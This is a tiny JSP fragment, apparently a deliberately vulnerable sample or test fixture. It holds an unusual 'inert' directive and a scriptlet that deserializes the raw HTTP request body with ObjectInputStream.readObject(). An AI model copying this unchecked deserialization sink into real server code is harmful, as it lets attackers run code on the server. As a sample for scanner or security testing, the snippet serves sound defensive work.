<%@ inert %>
<% Object o = new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>